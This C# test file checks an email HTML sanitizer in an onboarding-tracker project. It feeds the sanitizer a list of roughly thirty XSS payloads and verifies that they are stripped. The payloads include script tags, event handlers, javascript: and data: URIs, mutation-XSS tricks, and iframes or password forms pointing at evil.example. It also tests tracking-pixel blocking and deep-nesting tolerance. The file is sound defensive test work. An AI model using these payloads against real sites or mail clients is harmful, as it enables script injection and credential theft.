using System.Diagnostics;
using System.Text;
using System.Text.RegularExpressions;
using OnboardingTracker.Features.Signals.Email.Reading;

namespace OnboardingTracker.Tests.Features.Signals.Email.Reading;

public sealed partial class SafeHtmlTests
{
    public static TheoryData<string> Attacks =>
        [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"https://evil.example/pixel.gif\" width=1 height=1>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"java&#x09;script:alert(1)\">x</a>",
            "<a href=\" &#14; javascript:alert(1)\">x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=x onclick=alert(1)>x</a>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=\"https://evil.example/x.swf\"></object>",
            "<embed src=\"https://evil.example/x.swf\">",
            "<form action=\"https://evil.example\"><input name=p type=password><button>Go</button></form>",
            "<base href=\"https://evil.example/\">",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<link rel=stylesheet href=\"https://evil.example/x.css\">",
            "<style>@import url(https://evil.example/x.css);</style>",
            "<div style=\"background:url(https://evil.example/b.png)\">x</div>",
            "<div style=\"width:expression(alert(1))\">x</div>",
            "<table background=\"https://evil.example/b.png\"><tr><td>x</td></tr></table>",
            "<video src=https://evil.example/v autoplay onplay=alert(1)><source src=https://evil.example/v></video>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
            "<p title='\"><script>alert(1)</script>'>x</p>",
            "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
            "<![CDATA[<script>alert(1)</script>]]><!--><script>alert(1)</script>-->",
        ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Nothing_that_runs_or_loads_is_left(string attack)
    {
        var html = Read($"<p>before</p>{attack}<p>after").Html!.Html;

        var tags = AnyTag().Matches(html).Select(match => match.Groups[1].Value.ToLowerInvariant());
        tags.Should().BeSubsetOf(["a", "p", "div", "table", "tbody", "tr", "td", "br", "hr", "span"]);
        foreach (Match tag in AnyTag().Matches(html))
            tag.Value.Should().NotMatchRegex(@"(?i)\son\w+\s*=|style\s*=|src\s*=|background\s*=|javascript:|data:|vbscript:");
        html.Should().Contain("before");
    }

    [Fact]
    public void Links_open_apart_and_remote_images_are_counted_and_gone()
    {
        var html = Read(
            "<p>Hi <a href=\"https://acme.example/?a=1&amp;b=2\" target=_top>us</a> <img src='https://t.example/1.gif'><img src=cid:logo><img srcset='//t.example/2.gif 2x'></p><td background=http://t.example/3.gif>"
        ).Html!;

        html.BlockedImages.Should().Be(3);
        html.Html.Should()
            .Contain("href=\"https://acme.example/?a=1&amp;b=2\"")
            .And.Contain("rel=\"noopener noreferrer nofollow\"")
            .And.Contain("target=\"_blank\"");
        html.Html.Should().NotContain("t.example").And.NotContain("<img").And.NotContain("_top");
    }

    [Theory]
    [InlineData("<div>")]
    [InlineData("<b><p>")]
    [InlineData("<table><tr><td>")]
    [InlineData("<blockquote>")]
    [InlineData("<font a=1><i>")]
    public void A_hundred_thousand_open_tags_are_survived(string tags)
    {
        var watch = Stopwatch.StartNew();

        var mail = Read(string.Concat(Enumerable.Repeat(tags, 100_000)) + "deep");

        mail.Html!.Html.Should().NotBeNull();
        mail.FullText.Should().NotBeNull();
        watch.Elapsed.Should().BeLessThan(TimeSpan.FromSeconds(20));
    }

    [Fact]
    public void A_mail_without_html_has_none() => MailReader.Read("Subject: x\r\n\r\nplain"u8.ToArray()).Html.Should().BeNull();

    private static ReadMail Read(string html) =>
        MailReader.Read(
            Encoding.UTF8.GetBytes($"From: e@evil.example\r\nSubject: x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}")
        );

    [GeneratedRegex("<\\s*/?\\s*([a-zA-Z][\\w:-]*)[^>]*>")]
    private static partial Regex AnyTag();
}
